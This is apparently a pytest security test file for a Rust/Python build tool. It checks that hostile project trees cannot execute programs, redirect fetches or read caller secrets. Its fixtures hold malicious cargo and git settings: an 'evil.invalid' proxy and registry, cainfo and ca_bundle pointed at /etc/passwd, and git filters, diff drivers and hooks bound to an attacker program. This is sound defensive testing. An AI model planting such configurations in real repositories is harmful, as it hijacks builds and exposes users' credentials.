"""What a tree that somebody else wrote can name: no program, file or host of the caller's.

docs/trust.md has the whole table. Tried elsewhere: the project's settings (test_who.py), paths of
manifests and links (test_sources.py), git (test_snapshot.py, test_history.py), cargo (test_fetch.py).
"""

from __future__ import annotations

import os
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from types import FrameType

import pytest
from support.cli_runner import xbuild
from support.repositories import commit, git, names, program, put
from support.workshop import Workshop

from xbuild.errors import ExitStatus, RefusedError
from xbuild.inspect.crate.cargoconfig import read_config
from xbuild.inspect.sources.snapshot import take_snapshot

CARGO_CONFIG = """\
[build]
target = "x86_64-unknown-linux-gnu"
rustc = "{program}"
[net]
git-fetch-with-cli = true
[http]
proxy = "http://evil.invalid"
cainfo = "/etc/passwd"
[registry]
global-credential-providers = ["{program}"]
[target.x86_64-unknown-linux-gnu]
runner = "{program}"
linker = "{program}"
[source.crates-io]
replace-with = "evil"
[source.evil]
registry = "http://evil.invalid/index"
"""


@pytest.fixture
def shop(tmp_path: Path) -> Workshop:
    return Workshop(tmp_path)


@contextmanager
def within(seconds: float) -> Iterator[None]:
    """Fail where something waits longer, as reading from a FIFO does."""

    def give_up(_number: int, _frame: FrameType | None) -> None:
        raise TimeoutError

    before = signal.signal(signal.SIGALRM, give_up)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)


def test_cargos_configuration_has_no_say_where_there_is_a_network(shop: Workshop, tmp_path: Path) -> None:
    """It can name programs, proxies, registries and files. cargo looks for it from the folder on that it runs
    in, and in CARGO_HOME; and the host reads nothing but ``build.target``."""
    evil, ran = program(tmp_path / "evil")
    put(shop.project, ".cargo/config.toml", text=CARGO_CONFIG.format(program=evil))
    assert shop.build() == 0
    assert not ran.exists()
    ((fetching, commands),) = [
        (container.spec, container.commands) for container in shop.engine.containers if container.spec.network
    ]
    assert fetching.hardened
    assert {command.workdir for command in commands} == {"/tmp"}
    assert not fetching.env["CARGO_HOME"].startswith("/src")
    assert not any("evil" in word for command in commands for word in command.argv)
    assert not any("evil" in value for value in fetching.env.values())


def test_a_configuration_of_cargos_is_not_read_through_a_link(tmp_path: Path) -> None:
    root = put(tmp_path / "tree", "Cargo.toml")
    put(tmp_path, "home/.cargo/config.toml", text='[build]\nrustflags = ["--cfg=mine"]\n')
    (root / ".cargo").symlink_to(tmp_path / "home" / ".cargo")
    assert read_config(root, root, root, shown=root).files == ()
    (root / ".cargo").unlink()
    put(root, ".cargo/own.toml", text="")
    (root / ".cargo" / "config.toml").symlink_to("own.toml")
    (found,) = read_config(root, root, root, shown=root).files
    assert found.path == root / ".cargo" / "config.toml"
    assert not found.has("a\0b")
    put(root, ".cargo/own.toml", text='include = "a\\u0000b"\n')
    with pytest.raises(RefusedError) as caught:
        read_config(root, root, root, shown=root)
    assert caught.value.code == "bad-cargo-config"


def test_containers_get_nothing_of_the_caller(
    shop: Workshop, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """What a dependency's URL names (``file:///home/...``, ``ssh://``) is looked for in a container that has
    no file, agent or credential of the caller's."""
    monkeypatch.setenv("SSH_AUTH_SOCK", "/run/agent")
    monkeypatch.setenv("CARGO_REGISTRY_TOKEN", "s3cret")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert shop.build() == 0
    assert len(shop.engine.specs) > 1
    for spec in shop.engine.specs:
        assert not any("s3cret" in text or "/run/agent" in text for text in spec.env.values())
        assert spec.env.get("HOME") != str(tmp_path / "home")
        places = [mount.source for mount in spec.mounts if mount.source]
        assert all(place.is_relative_to(shop.settings.cache_dir) for place in places), places


def test_programs_that_git_would_run_for_files_do_not(tmp_path: Path) -> None:
    """Filters of .gitattributes, and what a repository's configuration names for them and for comparisons."""
    evil, ran = program(tmp_path / "evil")
    root = put(tmp_path / "in", "a.c", "b.c")
    put(root, ".gitattributes", text="* filter=evil diff=evil merge=evil text eol=crlf\n")
    commit(root)
    for key in ("filter.evil.clean", "filter.evil.smudge", "filter.evil.process", "diff.evil.textconv"):
        git(root, "config", key, str(evil))
    for key in ("diff.evil.command", "diff.external", "merge.evil.driver", "core.editor", "core.pager"):
        git(root, "config", key, str(evil))
    git(root, "config", "filter.evil.required", "true")
    hook = root / ".git" / "hooks" / "post-index-change"
    hook.parent.mkdir(exist_ok=True)
    hook.write_bytes(evil.read_bytes())
    hook.chmod(0o755)
    put(root, "a.c", text="changed\n")
    os.utime(root / "b.c", (1, 1))
    found = take_snapshot(root, tmp_path / "out", history=True)
    assert not ran.exists()
    assert {"a.c", "b.c", ".gitattributes"} <= names(found)
    assert (tmp_path / "out" / "a.c").read_text("utf-8") == "changed\n"


def test_a_repository_that_includes_files_of_the_callers(tmp_path: Path) -> None:
    root = commit(put(tmp_path / "in", "a"))
    put(tmp_path, "secret", text="[core]\n\tfsmonitor = true\nnot git's: hunter2\n")
    lines = [f"\t{name} = {tmp_path}/secret\n" for name in ("excludesFile", "attributesFile")]
    with (root / ".git" / "config").open("a", encoding="utf-8") as config:
        config.write(f"[core]\n{''.join(lines)}[include]\n\tpath = {tmp_path}/secret\n")
    found = take_snapshot(root, tmp_path / "out")
    assert names(found) == {"a"}
    assert not any(
        b"hunter2" in path.read_bytes() for path in (tmp_path / "out").rglob("*") if path.is_file()
    )


def test_files_that_never_end_are_not_read(shop: Workshop) -> None:
    """A tree can have FIFOs, and links to devices, in place of everything that is looked at."""
    (shop.project / ".cargo").mkdir()
    found = ["xbuild.toml", "rust-toolchain", "rust-toolchain.toml", ".gitignore", "PKG-INFO"]
    for name in [*found, ".cargo/config.toml", "README.md", "LICENSE", "src/fifo.rs"]:
        os.mkfifo(shop.project / name)
    (shop.project / "src" / "zero.rs").symlink_to("/dev/zero")
    (shop.project / ".git").symlink_to("/dev/zero")
    with within(10):
        assert xbuild("config", shop.project).status == 0
        assert shop.build() == 0
        os.mkfifo(shop.project / "xbuild.lock")
        assert shop.build() == ExitStatus.REFUSED


@pytest.mark.parametrize("words", [("config",), ("lock",), ("run",), ("plan",)])
def test_every_command_that_reads_a_project_refuses_its_words(shop: Workshop, words: tuple[str, ...]) -> None:
    put(shop.project, "xbuild.toml", text='[images]\nbase = "evil.invalid/image"\n')
    assert xbuild(*words, shop.project).code == "not-for-projects"


def test_doctor_and_verify_refuse_them_too(shop: Workshop, monkeypatch: pytest.MonkeyPatch) -> None:
    assert shop.build() == 0
    put(shop.project, "xbuild.toml", text='[network]\nca_bundle = "/etc/passwd"\n')
    (wheel,) = shop.out.glob("*.whl")
    assert xbuild("verify", wheel).code == "not-for-projects"
    monkeypatch.chdir(shop.project)
    assert xbuild("doctor").code == "not-for-projects"
    # These read no project's file
    assert xbuild("cache", "du", environ={"XBUILD_CACHE_DIR": str(shop.settings.cache_dir)}).status == 0
